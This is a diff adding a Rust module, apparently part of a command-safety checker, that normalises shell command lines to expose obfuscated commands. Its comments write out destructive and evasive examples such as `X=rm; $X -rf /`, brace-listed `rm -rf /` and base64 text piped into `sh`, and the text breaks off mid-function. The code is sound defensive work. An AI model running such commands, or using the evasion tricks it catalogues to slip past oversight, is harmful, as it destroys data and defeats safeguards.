@@ -1,0 +1,1328 @@
+//! Shell normalisation: turns a command line into the simple commands a
+//! shell would run, the way an attacker cannot easily hide from.
+//!
+//! We do not execute anything and we do not try to be bash. We undo the
+//! tricks that defeat a regex over the raw text: quotes and backslashes
+//! inside words (`r''m`, `\rm`), ANSI-C `$'\x63'` escapes, variables set
+//! earlier in the same line (`X=rm; $X -rf /`), `${VAR:-default}`, `$IFS`,
+//! brace lists (`{rm,-rf,/}`), absolute binary paths, wrappers
+//! (`env`, `command`, `busybox`, `nohup`, `timeout` ...). Code hidden in
+//! arguments — `sh -c '...'`, `eval`, heredocs and here-strings fed to a
+//! shell, `$(...)`, backticks, `<(...)`, literals piped into a shell — is
+//! collected as nested scripts and parsed the same way (depth-bounded).
+
+use std::collections::HashMap;
+
+/// How far nested scripts are followed (`sh -c "eval \"$(...)\""`).
+pub const MAX_DEPTH: usize = 4;
+/// Bound on simple commands kept per parse, whatever the input size.
+pub const MAX_SEGMENTS: usize = 512;
+
+/// What separates a simple command from the next one.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Sep {
+    /// `;`, newline, `&`, end of input, a subshell paren.
+    Seq,
+    And,
+    Or,
+    Pipe,
+}
+
+#[derive(Debug, Clone, Default)]
+pub struct Redir {
+    /// The operator as written, with its fd: `>`, `2>&1`, `<<<`, `>&`.
+    pub op: String,
+    pub target: String,
+}
+
+/// One simple command after normalisation.
+#[derive(Debug, Clone)]
+pub struct Segment {
+    /// Ran under `sudo`/`doas` (or `su -c`).
+    pub sudo: bool,
+    /// The command word: basename, lowercased (`/usr/bin/rm` → `rm`).
+    pub cmd: String,
+    /// The command word as written after unquoting (`/tmp/x`, `./run`).
+    pub cmd_path: String,
+    pub args: Vec<String>,
+    pub redirs: Vec<Redir>,
+    /// Heredoc or here-string body, if any.
+    pub stdin_text: Option<String>,
+    /// Scripts found inside this command's words: `$(...)`, backticks, `<(...)`.
+    pub substitutions: Vec<String>,
+    /// Separator after this command.
+    pub sep: Sep,
+    /// Index of the pipeline this command belongs to.
+    pub pipeline: usize,
+    /// Rendered `[sudo ]cmd args redirs`, what segment patterns match.
+    pub text: String,
+}
+
+impl Segment {
+    pub fn has_arg(&self, a: &str) -> bool {
+        self.args.iter().any(|x| x == a)
+    }
+    /// A short flag letter anywhere in a cluster (`-rf` has `r` and `f`),
+    /// or the long form.
+    pub fn has_flag(&self, short: char, long: &str) -> bool {
+        self.args.iter().any(|a| {
+            (a.starts_with('-') && !a.starts_with("--") && a.len() > 1 && a[1..].contains(short))
+                || (!long.is_empty() && a == long)
+        })
+    }
+    pub fn operands(&self) -> impl Iterator<Item = &String> {
+        self.args.iter().filter(|a| !a.starts_with('-'))
+    }
+}
+
+/// The result of a parse: simple commands in order, plus nested scripts
+/// (already parsed, flattened into `segments` with their own pipelines).
+#[derive(Debug, Default)]
+pub struct Script {
+    pub segments: Vec<Segment>,
+    /// Texts that nested code was recovered from, for text-level checks
+    /// (decoded base64, reversed strings, `-c` arguments).
+    pub decoded: Vec<String>,
+    /// Words that looked deliberately obfuscated (quote-split names, hex
+    /// escapes, `$IFS`).
+    pub obfuscated: bool,
+    /// Parsing hit `MAX_SEGMENTS` or `MAX_DEPTH`.
+    pub truncated: bool,
+    pipelines: usize,
+}
+
+pub const SHELLS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "mksh", "tcsh", "csh",
+];
+pub const INTERPRETERS: &[&str] = &[
+    "python", "python2", "python3", "perl", "ruby", "node", "nodejs", "php", "lua", "deno", "bun",
+];
+
+pub fn is_shell(cmd: &str) -> bool {
+    SHELLS.contains(&cmd)
+}
+
+pub fn is_interpreter(cmd: &str) -> bool {
+    INTERPRETERS.contains(&cmd) || cmd.starts_with("python3.") || cmd.starts_with("python2.")
+}
+
+/// Parses `src` into a [`Script`].
+pub fn parse(src: &str) -> Script {
+    let mut s = Script::default();
+    let mut vars = HashMap::new();
+    parse_into(src, 0, &mut s, &mut vars);
+    s
+}
+
+fn parse_into(src: &str, depth: usize, out: &mut Script, vars: &mut HashMap<String, String>) {
+    if depth > MAX_DEPTH {
+        out.truncated = true;
+        return;
+    }
+    let mut lx = Lexer {
+        s: src.as_bytes(),
+        src,
+        i: 0,
+        vars,
+        obfuscated: false,
+        substitutions: Vec::new(),
+        pending_heredocs: Vec::new(),
+    };
+    let mut raw: Vec<RawSegment> = Vec::new();
+    loop {
+        if raw.len() >= MAX_SEGMENTS {
+            out.truncated = true;
+            break;
+        }
+        let (seg, sep, more) = lx.segment();
+        if let Some(seg) = seg {
+            raw.push(RawSegment { seg, sep });
+        } else if let Some(last) = raw.last_mut() {
+            // `a | ;` or a trailing `&`: the stronger separator wins.
+            if sep != Sep::Seq {
+                last.sep = sep;
+            }
+        }
+        if !more {
+            break;
+        }
+    }
+    out.obfuscated |= lx.obfuscated;
+    let base_pipeline = out.pipelines;
+    let mut pipeline = base_pipeline;
+    let mut nested: Vec<(String, bool)> = Vec::new();
+    let first_new = out.segments.len();
+    for r in raw {
+        let mut seg = r.seg;
+        seg.sep = r.sep;
+        seg.pipeline = pipeline;
+        if r.sep != Sep::Pipe {
+            pipeline += 1;
+        }
+        for sub in &seg.substitutions {
+            nested.push((sub.clone(), false));
+        }
+        collect_nested(&seg, &mut nested);
+        if out.segments.len() < MAX_SEGMENTS {
+            out.segments.push(seg);
+        } else {
+            out.truncated = true;
+        }
+    }
+    out.pipelines = pipeline + 1;
+    // Literals piped into a shell: `echo 'cmd' | sh`, through `rev` or
+    // `base64 -d` on the way.
+    collect_piped_literals(&out.segments[first_new..], &mut nested);
+    for (text, decoded) in nested {
+        if decoded {
+            out.decoded.push(text.clone());
+        }
+        let mut inner_vars = vars.clone();
+        parse_into(&text, depth + 1, out, &mut inner_vars);
+    }
+}
+
+struct RawSegment {
+    seg: Segment,
+    sep: Sep,
+}
+
+/// Code carried inside one command's arguments.
+fn collect_nested(seg: &Segment, nested: &mut Vec<(String, bool)>) {
+    let cmd = seg.cmd.as_str();
+    // `sh -c 'script'`, also when the shell is an argument
+    // (`find -exec sh -c '...'`, `xargs bash -c`, `su -c`, `sudo sh -c`).
+    let mut words: Vec<&str> = Vec::with_capacity(seg.args.len() + 1);
+    words.push(cmd);
+    words.extend(seg.args.iter().map(|s| s.as_str()));
+    for w in 0..words.len() {
+        let base = basename(words[w]);
+        if is_shell(&base) || base == "su" || base == "runuser" {
+            let mut j = w + 1;
+            while j < words.len() && words[j].starts_with('-') {
+                if words[j] == "-c"
+                    || (words[j].len() > 2
+                        && words[j].ends_with('c')
+                        && !words[j].starts_with("--"))
+                {
+                    if let Some(script) = words.get(j + 1) {
+                        nested.push((script.to_string(), false));
+                    }
+                    break;
+                }
+                j += 1;
+            }
+        }
+    }
+    match cmd {
+        "eval" => nested.push((seg.args.join(" "), false)),
+        // `ssh host 'cmd'` runs cmd remotely; `at`/`batch` run stdin later;
+        // `watch 'cmd'` repeats it.
+        "ssh" => {
+            if let Some(remote) = ssh_remote_command(&seg.args) {
+                nested.push((remote, false));
+            }
+        }
+        "watch" => {
+            let rest: Vec<&String> = seg.args.iter().skip_while(|a| a.starts_with('-')).collect();
+            if !rest.is_empty() {
+                nested.push((
+                    rest.iter()
+                        .map(|s| s.as_str())
+                        .collect::<Vec<_>>()
+                        .join(" "),
+                    false,
+                ));
+            }
+        }
+        _ => {}
+    }
+    if let Some(body) = &seg.stdin_text {
+        let runs_stdin = (is_shell(cmd) && !seg.args.iter().any(|a| !a.starts_with('-')))
+            || cmd == "at"
+            || cmd == "batch"
+            || cmd == "ssh"
+            || (cmd == "crontab" && seg.args.iter().any(|a| a == "-"));
+        if runs_stdin {
+            nested.push((body.clone(), false));
+        }
+    }
+    if is_interpreter(cmd) {
+        for code in interpreter_code(seg) {
+            for lit in exec_literals(&code) {
+                nested.push((lit, false));
+            }
+            for d in crate::coach::text::decode_base64_literals(&code) {
+                nested.push((d, true));
+            }
+        }
+    }
+}
+
+/// The inline program of `python -c`, `perl -e`, `node -e`, `php -r`,
+/// `ruby -e`, or a heredoc fed to the interpreter.
+pub fn interpreter_code(seg: &Segment) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut it = seg.args.iter();
+    while let Some(a) = it.next() {
+        if matches!(
+            a.as_str(),
+            "-c" | "-e" | "-r" | "-E" | "--eval" | "-p" | "--print"
+        ) {
+            if let Some(code) = it.next() {
+                out.push(code.clone());
+            }
+        } else if a.starts_with('-')
+            && a.len() > 2
+            && (a.ends_with('e') || a.ends_with('c'))
+            && !a.starts_with("--")
+        {
+            // `perl -ne '...'`, `ruby -rsocket -e`
+            if let Some(code) = it.next() {
+                out.push(code.clone());
+            }
+        }
+    }
+    if let Some(body) = &seg.stdin_text {
+        out.push(body.clone());
+    }
+    out
+}
+
+/// String literals passed to the usual "run a command" calls of scripting
+/// languages: `os.system("...")`, `execSync('...')`, `system("...")`.
+fn exec_literals(code: &str) -> Vec<String> {
+    const CALLS: &[&str] = &[
+        "system(",
+        "popen(",
+        "execSync(",
+        "exec(",
+        "spawnSync(",
+        "check_output(",
+        "check_call(",
+        "run(",
+        "call(",
+        "Popen(",
+        "shell_exec(",
+        "passthru(",
+        "proc_open(",
+        "execute(",
+        "getoutput(",
+        "qx(",
+    ];
+    let mut out = Vec::new();
+    for call in CALLS {
+        let mut from = 0;
+        while let Some(p) = code[from..].find(call) {
+            let start = from + p + call.len();
+            from = start;
+            let rest = code[start..].trim_start();
+            let mut chars = rest.chars();
+            let Some(q) = chars.next() else { continue };
+            if q != '"' && q != '\'' && q != '`' {
+                continue;
+            }
+            if let Some(end) = rest[1..].find(q) {
+                let lit = &rest[1..1 + end];
+                if !lit.is_empty() && out.len() < 16 {
+                    out.push(lit.replace("\\\"", "\"").replace("\\'", "'"));
+                }
+            }
+        }
+    }
+    out
+}
+
+fn ssh_remote_command(args: &[String]) -> Option<String> {
+    // Options that take a value.
+    const WITH_VALUE: &[&str] = &[
+        "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p",
+        "-Q", "-R", "-S", "-W", "-w",
+    ];
+    let mut i = 0;
+    let mut host_seen = false;
+    while i < args.len() {
+        let a = &args[i];
+        if !host_seen && a.starts_with('-') {
+            if WITH_VALUE.contains(&a.as_str()) {
+                i += 1;
+            }
+            i += 1;
+            continue;
+        }
+        if !host_seen {
+            host_seen = true;
+            i += 1;
+            continue;
+        }
+        return Some(args[i..].join(" "));
+    }
+    None
+}
+
+/// `echo 'cmd' | sh`, `printf ... | rev | bash`, `echo <b64> | base64 -d | sh`.
+fn collect_piped_literals(segs: &[Segment], nested: &mut Vec<(String, bool)>) {
+    let mut i = 0;
+    while i < segs.len() {
+        let s = &segs[i];
+        let literal = match s.cmd.as_str() {
+            "echo" | "printf" => Some(
+                s.args
+                    .iter()
+                    .filter(|a| !(a.starts_with('-') && a.len() <= 3))
+                    .cloned()
+                    .collect::<Vec<_>>()
+                    .join(" "),
+            ),
+            "cat" if s.args.is_empty() => s.stdin_text.clone(),
+            _ => None,
+        };
+        if let (Some(mut text), Sep::Pipe) = (literal, s.sep) {
+            if s.cmd == "printf" || s.has_arg("-e") {
+                text = crate::coach::text::unescape_c(&text);
+            }
+            let mut decoded = false;
+            let mut j = i + 1;
+            while j < segs.len() && segs[j].pipeline == s.pipeline {
+                let t = &segs[j];
+                match t.cmd.as_str() {
+                    "rev" => {
+                        text = text.chars().rev().collect();
+                        decoded = true;
+                    }
+                    "base64" | "openssl" if t.has_flag('d', "--decode") || t.has_flag('D', "") => {
+                        if let Some(d) = crate::coach::text::decode_base64(text.trim()) {
+                            text = d;
+                            decoded = true;
+                        }
+                    }
+                    "xxd" if t.has_flag('r', "") => {
+                        if let Some(d) = crate::coach::text::decode_hex(text.trim()) {
+                            text = d;
+                            decoded = true;
+                        }
+                    }
+                    c if is_shell(c) && t.operands().next().is_none() => {
+                        nested.push((text.clone(), decoded));
+                        break;
+                    }
+                    _ => {}
+                }
+                j += 1;
+            }
+        }
+        i += 1;
+    }
+}
+
+pub fn basename(w: &str) -> String {
+    let b = w.rsplit('/').next().unwrap_or(w);
+    b.to_ascii_lowercase()
+}
+
+/// Commands that only wrap another one: dropped with their options.
+fn wrapper_value_options(cmd: &str) -> Option<&'static [&'static str]> {
+    Some(match cmd {
+        "env" => &["-u", "-C", "-S"],
+        "command" | "builtin" | "nohup" | "time" | "setsid" | "busybox" | "unbuffer" | "exec"
+        | "caffeinate" => &[],
+        "nice" | "renice" => &["-n"],
+        "ionice" => &["-c", "-n"],
+        "stdbuf" => &["-i", "-o", "-e"],
+        "timeout" => &["-s", "-k", "--signal", "--kill-after"],
+        "xargs" => &["-I", "-n", "-P", "-d", "-L", "-s", "-a", "-E"],
+        "sudo" | "doas" => &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U"],
+        "chrt" | "taskset" => &[],
+        _ => return None,
+    })
+}
+
+struct Lexer<'a> {
+    s: &'a [u8],
+    src: &'a str,
+    i: usize,
+    vars: &'a mut HashMap<String, String>,
+    obfuscated: bool,
+    substitutions: Vec<String>,
+    /// Heredoc delimiters met on the current line: (delimiter, strip tabs).
+    pending_heredocs: Vec<(String, bool)>,
+}
+
+#[derive(Default)]
+struct Word {
+    text: String,
+    /// Any part of it came from quotes or escapes (never an operator).
+    quoted: bool,
+    /// Unquoted `{a,b}` present: brace-expand.
+    brace: bool,
+    /// Parts quoted differently were glued (`r''m`).
+    glued_quotes: bool,
+    /// `$IFS` split the word.
+    ifs_split: bool,
+    started: bool,
+}
+
+enum Tok {
+    Word(Word),
+    Op(String),
+    Redir(String),
+    Newline,
+    End,
+}
+
+impl<'a> Lexer<'a> {
+    fn peek(&self) -> Option<u8> {
+        self.s.get(self.i).copied()
+    }
+    fn peek_at(&self, k: usize) -> Option<u8> {
+        self.s.get(self.i + k).copied()
+    }
+
+    /// One simple command: words and redirections up to a separator.
+    fn segment(&mut self) -> (Option<Segment>, Sep, bool) {
+        let mut words: Vec<Word> = Vec::new();
+        let mut redirs: Vec<Redir> = Vec::new();
+        let mut heredoc_idx: Vec<usize> = Vec::new();
+        let mut here_string: Option<String> = None;
+        self.substitutions.clear();
+        let (sep, more) = loop {
+            match self.token() {
+                Tok::Word(w) => words.push(w),
+                Tok::Redir(op) => {
+                    // fd duplications (`2>&1`, `>&3`) carry their target in the op.
+                    let target = if op.ends_with('&')
+                        && self.peek().is_some_and(|c| c.is_ascii_digit() || c == b'-')
+                    {
+                        let st = self.i;
+                        while self.peek().is_some_and(|c| c.is_ascii_digit() || c == b'-') {
+                            self.i += 1;
+                        }
+                        self.src[st..self.i].to_string()
+                    } else {
+                        self.skip_blanks();
+                        match self.token() {
+                            Tok::Word(w) => w.text,
+                            _ => String::new(),
+                        }
+                    };
+                    if op.ends_with("<<<") {
+                        here_string = Some(target.clone());
+                    } else if op.ends_with("<<") || op.ends_with("<<-") {
+                        self.pending_heredocs
+                            .push((target.clone(), op.ends_with('-')));
+                        heredoc_idx.push(redirs.len());
+                    }
+                    redirs.push(Redir { op, target });
+                }
+                Tok::Op(op) => {
+                    let sep = match op.as_str() {
+                        "&&" => Sep::And,
+                        "||" => Sep::Or,
+                        "|" | "|&" => Sep::Pipe,
+                        _ => Sep::Seq,
+                    };
+                    break (sep, true);
+                }
+                Tok::Newline => break (Sep::Seq, true),
+                Tok::End => break (Sep::Seq, false),
+            }
+        };
+        // Heredoc bodies start after the line that introduced them.
+        let mut stdin_text = here_string;
+        if !self.pending_heredocs.is_empty()
+            && (self.i >= self.s.len() || self.s[self.i - 1] == b'\n')
+        {
+            let docs = std::mem::take(&mut self.pending_heredocs);
+            for (delim, strip) in docs {
+                let body = self.heredoc_body(&delim, strip);
+                stdin_text = Some(body);
+            }
+        }
+        let subs = std::mem::take(&mut self.substitutions);
+        let seg = self.finish(words, redirs, stdin_text, subs);
+        (seg, sep, more)
+    }
+
+    fn heredoc_body(&mut self, delim: &str, strip: bool) -> String {
+        let mut body = String::new();
+        while self.i < self.s.len() {
+            let end = self.src[self.i..]
+                .find('\n')
+                .map(|p| self.i + p)
+                .unwrap_or(self.s.len());
+            let line = &self.src[self.i..end];
+            self.i = (end + 1).min(self.s.len());
+            let cmp = if strip {
+                line.trim_start_matches('\t')
+            } else {
+                line
+            };
+            if cmp.trim_end() == delim {
+                break;
+            }
+            body.push_str(line);
+            body.push('\n');
+        }
+        body
+    }
+
+    fn finish(
+        &mut self,
+        words: Vec<Word>,
+        redirs: Vec<Redir>,
+        stdin_text: Option<String>,
+        substitutions: Vec<String>,
+    ) -> Option<Segment> {
+        let mut texts: Vec<String> = Vec::with_capacity(words.len());
+        for w in words {
+            if w.glued_quotes || w.ifs_split {
+                self.obfuscated = true;
+            }
+            if w.brace {
+                texts.extend(brace_expand(&w.text));
+            } else if w.ifs_split {
+                texts.extend(
+                    w.text
+                        .split(' ')
+                        .filter(|p| !p.is_empty())
+                        .map(str::to_string),
+                );
+            } else {
+                texts.push(w.text);
+            }
+        }
+        // Leading assignments: remembered for later commands.
+        let mut k = 0;
+        while k < texts.len() {
+            match assignment(&texts[k]) {
+                Some((n, v)) => {
+                    if self.vars.len() < 256 {
+                        self.vars.insert(n, v);
+                    }
+                    k += 1;
+                }
+                None => break,
+            }
+        }
+        let mut rest: Vec<String> = texts.split_off(k);
+        // Compound-command keywords: the command follows them.
+        while rest.first().is_some_and(|w| {
+            matches!(
+                w.as_str(),
+                "do" | "then" | "else" | "elif" | "if" | "while" | "until" | "!"
+            )
+        }) {
+            rest.remove(0);
+        }
+        if rest.len() == 1 && matches!(rest[0].as_str(), "done" | "fi" | "esac") {
+            rest.clear();
+        }
+        // `export A=b`, `declare`, `local`, `readonly` are assignments too.
+        if matches!(
+            rest.first().map(|s| s.as_str()),
+            Some("export" | "declare" | "local" | "readonly" | "typeset")
+        ) {
+            for t in &rest[1..] {
+                if let Some((n, v)) = assignment(t) {
+                    if self.vars.len() < 256 {
+                        self.vars.insert(n, v);
+                    }
+                }
+            }
+        }
+        let mut sudo = false;
+        let mut stripped_xargs = false;
+        // Strip wrappers (and `sudo`, remembered).
+        while let Some(first) = rest.first() {
+            let base = basename(first);
+            let Some(with_value) = wrapper_value_options(&base) else {
+                break;
+            };
+            if base == "exec" && rest.len() == 1 {
+                break;
+            }
+            let mut j = 1;
+            let mut root_shell = false;
+            while j < rest.len() {
+                let a = &rest[j];
+                if a == "--" {
+                    j += 1;
+                    break;
+                }
+                if a.starts_with('-') {
+                    if (base == "sudo" || base == "doas")
+                        && (a == "-i" || a == "-s" || a == "--login" || a == "--shell")
+                    {
+                        root_shell = true;
+                    }
+                    j += if with_value.contains(&a.as_str()) {
+                        2
+                    } else {
+                        1
+                    };
+                    continue;
+                }
+                if base == "env" && assignment(a).is_some() {
+                    j += 1;
+                    continue;
+                }
+                if (base == "timeout" || base == "nice" && a.parse::<i32>().is_ok())
+                    && a.chars().next().is_some_and(|c| c.is_ascii_digit())
+                {
+                    j += 1;
+                    continue;
+                }
+                break;
+            }
+            if base == "sudo" || base == "doas" {
+                sudo = true;
+                if j >= rest.len() {
+                    // `sudo -i`, `sudo -s`: a root shell with no command.
+                    let flag = if root_shell { "-i" } else { "" };
+                    rest = vec!["sudo".to_string(), flag.to_string()];
+                    rest.retain(|s| !s.is_empty());
+                    sudo = false;
+                    break;
+                }
+            }
+            if j >= rest.len() {
+                break;
+            }
+            stripped_xargs |= base == "xargs";
+            rest.drain(..j);
+        }
+        if rest.is_empty() && redirs.is_empty() && stdin_text.is_none() {
+            return None;
+        }
+        if stripped_xargs {
+            if let Some(t) = &stdin_text {
+                rest.extend(t.split_whitespace().take(64).map(str::to_string));
+            }
+        }
+        let (cmd_path, args) = if rest.is_empty() {
+            (String::new(), Vec::new())
+        } else {
+            let mut it = rest.into_iter();
+            let c = it.next().unwrap_or_default();
+            (c, it.collect())
+        };
+        // A shell named through an unknown variable is still a shell.
+        let mut cmd = basename(&cmd_path);
+        if cmd == "$shell" || cmd_path == "${SHELL}" {
+            cmd = "sh".to_string();
+        }
+        let mut text = String::with_capacity(64);
+        if sudo {
+            text.push_str("sudo ");
+        }
+        text.push_str(&cmd);
+        for a in &args {
+            text.push(' ');
+            text.push_str(a);
+        }
+        for r in &redirs {
+            text.push(' ');
+            text.push_str(&r.op);
+            text.push(' ');
+            text.push_str(&r.target);
+        }
+        Some(Segment {
+            sudo,
+            cmd,
+            cmd_path,
+            args,
+            redirs,
+            stdin_text,
+            substitutions,
+            sep: Sep::Seq,
+            pipeline: 0,
+            text,
+        })
+    }
+
+    fn skip_blanks(&mut self) {
+        while let Some(c) = self.peek() {
+            if c == b' ' || c == b'\t' || c == b'\r' {
+                self.i += 1;
+            } else if c == b'\\' && self.peek_at(1) == Some(b'\n') {
+                self.i += 2;
+            } else {
+                break;
+            }
+        }
+    }
+
+    fn token(&mut self) -> Tok {
+        self.skip_blanks();
+        let Some(c) = self.peek() else {
+            return Tok::End;
+        };
+        match c {
+            b'\n' => {
+                self.i += 1;
+                Tok::Newline
+            }
+            b'#' => {
+                while self.peek().is_some_and(|c| c != b'\n') {
+                    self.i += 1;
+                }
+                self.token()
+            }
+            b';' => {
+                self.i += 1;
+                if self.peek() == Some(b';') {
+                    self.i += 1;
+                }
+                Tok::Op(";".into())
+            }
+            b'&' if self.peek_at(1) == Some(b'&') => {
+                self.i += 2;
+                Tok::Op("&&".into())
+            }
+            b'&' if self.peek_at(1) == Some(b'>') => {
+                self.i += 2;
+                if self.peek() == Some(b'>') {
+                    self.i += 1;
+                    return Tok::Redir("&>>".into());
+                }
+                Tok::Redir("&>".into())
+            }
+            b'&' => {
+                self.i += 1;
+                Tok::Op("&".into())
+            }
+            b'|' if self.peek_at(1) == Some(b'|') => {
+                self.i += 2;
+                Tok::Op("||".into())
+            }
+            b'|' => {
+                self.i += 1;
+                if self.peek() == Some(b'&') {
+                    self.i += 1;
+                }
+                Tok::Op("|".into())
+            }
+            b'(' | b')' => {
+                self.i += 1;
+                if c == b'(' && self.peek() == Some(b'(') {
+                    // `(( arithmetic ))`: skip it.
+                    self.skip_balanced(b'(', b')');
+                }
+                Tok::Op(";".into())
+            }
+            b'<' if self.peek_at(1) == Some(b'(') => self.word(),
+            b'>' if self.peek_at(1) == Some(b'(') => self.word(),
+            b'<' | b'>' => self.redir_op(String::new()),
+            _ => {
+                // `{` and `}` alone are grouping, not words.
+                if (c == b'{' || c == b'}')
+                    && self
+                        .peek_at(1)
+                        .is_none_or(|n| n == b' ' || n == b'\n' || n == b';')
+                {
+                    self.i += 1;
+                    return Tok::Op(";".into());
+                }
+                // `2>`, `10<&`: an fd number glued to a redirection.
+                let st = self.i;
+                let mut j = st;
+                while j < self.s.len() && self.s[j].is_ascii_digit() {
+                    j += 1;
+                }
+                if j > st && j < self.s.len() && (self.s[j] == b'<' || self.s[j] == b'>') {
+                    let fd = self.src[st..j].to_string();
+                    self.i = j;
+                    return self.redir_op(fd);
+                }
+                self.word()
+            }
+        }
+    }
+
+    fn redir_op(&mut self, fd: String) -> Tok {
+        let mut op = fd;
+        let c = self.s[self.i];
+        op.push(c as char);
+        self.i += 1;
+        while let Some(n) = self.peek() {
+            let ok = match (c, n) {
+                (b'<', b'<') => op.matches('<').count() < 3,
+                (b'<', b'-') => op.ends_with("<<"),
+                (b'>', b'>') => !op.ends_with(">>"),
+                (_, b'&') | (b'<', b'>') | (b'>', b'|') => true,
+                _ => false,
+            };
+            if !ok {
+                break;
+            }
+            op.push(n as char);
+            self.i += 1;
+            if n == b'&' || n == b'|' || n == b'-' {
+                break;
+            }
+        }
+        Tok::Redir(op)
+    }
+
+    fn skip_balanced(&mut self, open: u8, close: u8) -> String {
+        // Called with self.i just past an `open`; returns the inner text.
+        let st = self.i;
+        let mut depth = 1;
+        while let Some(c) = self.peek() {
+            match c {
+                b'\\' => self.i += 1,
+                b'\'' => {
+                    self.i += 1;
+                    while self.peek().is_some_and(|c| c != b'\'') {
+                        self.i += 1;
+                    }
+                }
+                b'"' => {
+                    self.i += 1;
+                    while let Some(c) = self.peek() {
+                        if c == b'\\' {
+                            self.i += 1;
+                        } else if c == b'"' {
+                            break;
+                        }
+                        self.i += 1;
+                    }
+                }
+                _ if c == open => depth += 1,
+                _ if c == close => {
+                    depth -= 1;
+                    if depth == 0 {
+                        let inner = self.src.get(st..self.i).unwrap_or("").to_string();
+                        self.i += 1;
+                        return inner;
+                    }
+                }
+                _ => {}
+            }
+            self.i += 1;
+        }
+        self.i = self.s.len();
+        self.src.get(st..).unwrap_or("").to_string()
+    }
+
+    fn word(&mut self) -> Tok {
+        let mut w = Word::default();
+        let mut last_quote_kind = 0u8; // 0 none, 1 plain, 2 quoted
+        let mut mark = |w: &mut Word, kind: u8| {
+            if w.started && last_quote_kind != 0 && last_quote_kind != kind {
+                w.glued_quotes = true;
+            }
+            last_quote_kind = kind;
+            w.started = true;
+        };
+        while let Some(c) = self.peek() {
+            match c {
+                b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b')' => break,
+                b'(' => {
+                    // `name()` function definition or an `=(` array: stop the word.
+                    break;
+                }
+                b'<' | b'>' if self.peek_at(1) == Some(b'(') => {
+                    // Process substitution.
+                    self.i += 2;
+                    let inner = self.skip_balanced(b'(', b')');
+                    self.substitutions.push(inner.clone());
+                    mark(&mut w, 1);
+                    w.text.push_str("<(");
+                    w.text.push_str(&inner);
+                    w.text.push(')');
+                }
+                b'<' | b'>' => break,
+                b'\\' => {
+                    self.i += 1;
+                    match self.peek() {
+                        Some(b'\n') => self.i += 1,
+                        Some(_) => {
+                            let ch = self.next_char();
+                            mark(&mut w, 2);
+                            w.quoted = true;
+                            w.text.push(ch);
+                        }
+                        None => {}
+                    }
+                }
+                b'\'' => {
+                    self.i += 1;
+                    let st = self.i;
+                    while self.peek().is_some_and(|c| c != b'\'') {
+                        self.i += 1;
+                    }
+                    let lit = &self.src[st..self.i];
+                    self.i = (self.i + 1).min(self.s.len());
+                    if lit.is_empty() && w.started {
+                        w.glued_quotes = true;
+                    }
+                    mark(&mut w, 2);
+                    w.quoted = true;
+                    w.text.push_str(lit);
+                }
+                b'"' => {
+                    self.i += 1;
+                    let before = w.text.len();
+                    self.double_quoted(&mut w);
+                    if w.text.len() == before && w.started {
+                        w.glued_quotes = true;
+                    }
+                    mark(&mut w, 2);
+                    w.quoted = true;
+                }
+                b'`' => {
+                    self.i += 1;
+                    let st = self.i;
+                    while self.peek().is_some_and(|c| c != b'`') {
+                        if self.peek() == Some(b'\\') {
+                            self.i += 1;
+                        }
+                        self.i += 1;
+                    }
+                    let inner = self
+                        .src
+                        .get(st..self.i.min(self.s.len()))
+                        .unwrap_or("")
+                        .to_string();
+                    self.i = (self.i + 1).min(self.s.len());
+                    self.substitutions.push(inner.clone());
+                    mark(&mut w, 1);
+                    w.text.push_str("$(");
+                    w.text.push_str(&inner);
+                    w.text.push(')');
+                }
+                b'$' => {
+                    mark(&mut w, 1);
+                    self.dollar(&mut w, false);
+                }
+                b'{' => {
+                    mark(&mut w, 1);
+                    let st = self.i;
+                    self.i += 1;
+                    let inner = self.skip_balanced(b'{', b'}');
+                    if inner.contains(',') && !inner.contains(' ') {
+                        w.brace = true;
+                    }
+                    w.text.push_str(&self.src[st..self.i]);
+                }
+                _ => {
+                    mark(&mut w, 1);
+                    let ch = self.next_char();
+                    w.text.push(ch);
+                }
+            }
+        }
+        if !w.started {
+            // A lone operator char we do not handle: skip it.
+            self.i += 1;
+            return self.token();
+        }
+        Tok::Word(w)
+    }
+
+    fn next_char(&mut self) -> char {
+        let ch = self.src[self.i..].chars().next().unwrap_or('\u{fffd}');
+        self.i += ch.len_utf8().max(1);
+        ch
+    }
+
+    fn double_quoted(&mut self, w: &mut Word) {
+        while let Some(c) = self.peek() {
+            match c {
+                b'"' => {
+                    self.i += 1;
+                    return;
+                }
+                b'\\' => {
+                    self.i += 1;
+                    match self.peek() {
+                        Some(n @ (b'$' | b'`' | b'"' | b'\\')) => {
+                            w.text.push(n as char);
+                            self.i += 1;
+                        }
+                        Some(b'\n') => self.i += 1,
+                        _ => w.text.push('\\'),
+                    }
+                }
+                b'$' => self.dollar(w, true),
+                b'`' => {
+                    self.i += 1;
+                    let st = self.i;
+                    while self.peek().is_some_and(|c| c != b'`') {
+                        self.i += 1;
+                    }
+                    let inner = self.src[st..self.i].to_string();
+                    self.i = (self.i + 1).min(self.s.len());
+                    self.substitutions.push(inner.clone());
+                    w.text.push_str("$(");
+                    w.text.push_str(&inner);
+                    w.text.push(')');
+                }
+                _ => {
+                    let ch = self.next_char();
+                    w.text.push(ch);
+                }
+            }
+        }
+    }
+
+    /// `$NAME`, `${...}`, `$(...)`, `$((...))`, `$'...'`.
+    fn dollar(&mut self, w: &mut Word, in_dquote: bool) {
+        self.i += 1; // `$`
+        match self.peek() {
+            Some(b'(') if self.peek_at(1) == Some(b'(') => {
+                self.i += 2;
+                let inner = self.skip_balanced(b'(', b')');
+                if self.peek() == Some(b')') {
+                    self.i += 1;
+                }
+                w.text.push_str("$((");
+                w.text.push_str(&inner);
+                w.text.push_str("))");
+            }
+            Some(b'(') => {
+                self.i += 1;
+                let inner = self.skip_balanced(b'(', b')');
+                self.substitutions.push(inner.clone());
+                w.text.push_str("$(");
+                w.text.push_str(&inner);
+                w.text.push(')');
+            }
+            Some(b'\'') if !in_dquote => {
+                self.i += 1;
+                let st = self.i;
+                while let Some(c) = self.peek() {
+                    if c == b'\\' {
+                        self.i += 2;
+                        continue;
+                    }
+                    if c == b'\'' {
+                        break;
+                    }
+                    self.i += 1;
+                }
+                let end = self.i.min(self.s.len());
+                let raw = &self.src[st..end];
+                self.i = (end + 1).min(self.s.len());
